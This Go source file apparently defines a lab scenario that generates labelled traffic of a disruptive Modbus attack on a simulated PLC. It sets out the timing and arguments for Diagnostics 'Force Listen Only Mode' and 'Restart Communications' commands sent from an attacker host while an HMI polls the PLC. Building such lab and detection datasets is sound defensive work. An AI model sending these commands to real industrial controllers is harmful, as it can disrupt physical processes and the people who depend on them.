package lab

import (
	_ "embed"
	"fmt"
	"time"
)

// ICS: disruptive Modbus commands sent to a PLC while its HMI polls it.

// modbusHelper is the lab's Modbus program (helpers/modbus.py): a PLC
// (pymodbus's TCP server with a datastore), an HMI that polls it and one
// Diagnostics request, all with Debian's python3-pymodbus. The lab writes
// it into its work directory and runs it with debianPython.
//
//go:embed helpers/modbus.py
var modbusHelper string

const (
	modbusPort = 502
	// modbusPoll is the HMI's polling period (s).
	modbusPoll = "1"
	// modbusRounds is how many times the attacker sends each command.
	modbusRounds = 3
)

// modbusPLC is the PLC; modbusHMI the workstation that polls it.
var (
	modbusPLC = hostIoT
	modbusHMI = hostWS1
)

func init() {
	register(&Scenario{
		Name: "ics-modbus", Difficulty: Medium,
		Description: fmt.Sprintf("Disruptive Modbus commands against a PLC: the IoT hub runs a tank controller (pymodbus's Modbus/TCP server on port %d) "+
			"that ws1's HMI polls every second throughout; after some polling the attacker sends Diagnostics (function 8) "+
			"Force Listen Only Mode (sub-function 4) and Restart Communications (sub-function 1), %d times each, with pymodbus's client.",
			modbusPort, modbusRounds),
		Tools:    []string{"pymodbus"},
		Classes:  []string{"ics.disruptive"},
		MITRE:    []string{"T0816", "T0814", "T0813"},
		Attacker: hostPtr(hostAtk), Victims: v4(modbusPLC), Duration: 20 * time.Second,
		Notes: fmt.Sprintf("the PLC is %s:%d (pymodbus 3.0); %s is its HMI, reading holding registers 0–9 every second on one connection, "+
			"benign background throughout; pymodbus answers Restart Communications (its echo) but, as the specification says, "+
			"not Force Listen Only Mode, and it does not enforce listen-only mode, so the HMI's reads are answered throughout",
			modbusPLC.IPv4(), modbusPort, modbusHMI.IPv4()),
		services: []service{
			{modbusPLC, "pymodbus", modbusPLCConfig, []int{modbusPort}, nil},
			{modbusHMI, "pymodbus", modbusHMIConfig, nil, nil},
		},
		attack: modbusAttack,
	})
}

// modbusScript writes the helper into the work directory and returns the
// command line that runs it with args.
func modbusScript(w workDir, args ...string) ([]string, error) {
	return pythonHelper(w, "modbus.py", modbusHelper, args...)
}

// pythonHelper writes a helper of the lab's (source) into the work
// directory as file and returns the command line that runs it with args
// under debianPython.
func pythonHelper(w workDir, file, source string, args ...string) ([]string, error) {
	p, err := w.write(file, source, 0o755)
	if err != nil {
		return nil, err
	}
	return append([]string{debianPython, p}, args...), nil
}

func modbusPLCConfig(w workDir) ([]string, error) {
	return modbusScript(w, "plc", "--bind", modbusPLC.IPv4().String(), "--port", fmt.Sprint(modbusPort))
}

// modbusHMIConfig is the HMI's poller: it starts with the services, before
// the PLC listens, and connects once it does.
func modbusHMIConfig(w workDir) ([]string, error) {
	return modbusScript(w, "hmi", "--plc", modbusPLC.IPv4().String(), "--port", fmt.Sprint(modbusPort), "--interval", modbusPoll, "--report", "10")
}

// modbusAttack lets a quarter of the phase pass with only the HMI's
// polling, then sends Force Listen Only Mode and Restart Communications in
// turn, each on a connection of its own (alternateCommands).
func modbusAttack(a *attackRun) error {
	diag := func(sub string) []string {
		return []string{debianPython, a.w.path("modbus.py"), "diag", "--plc", modbusPLC.IPv4().String(),
			"--port", fmt.Sprint(modbusPort), "--sub", sub}
	}
	return alternateCommands(a, "diagnostics", modbusRounds, diag("listen-only"), diag("restart"))
}

// alternateCommands lets a quarter of the phase pass with only the
// device's usual traffic, then runs the attacker's first and second
// commands in turn, rounds times each, in phase name: one at the start of
// each of 2×rounds equal slots of the rest.
func alternateCommands(a *attackRun, name string, rounds int, first, second []string) error {
	if err := a.sleep(a.duration / 4); err != nil {
		return err
	}
	slot := (a.duration - a.duration/4) / time.Duration(2*rounds)
	return a.phase(name, func() error {
		start := a.now()
		for i := range 2 * rounds {
			if i > 0 {
				// Time left to the slot: a command may wait for an answer
				// that does not come (listen-only mode).
				if err := a.sleep(max(0, start.Add(time.Duration(i)*slot).Sub(a.now()))); err != nil {
					return err
				}
			}
			argv := first
			if i%2 == 1 {
				argv = second
			}
			if err := a.run(hostAtk, argv...); err != nil {
				return err
			}
		}
		return nil
	})
}
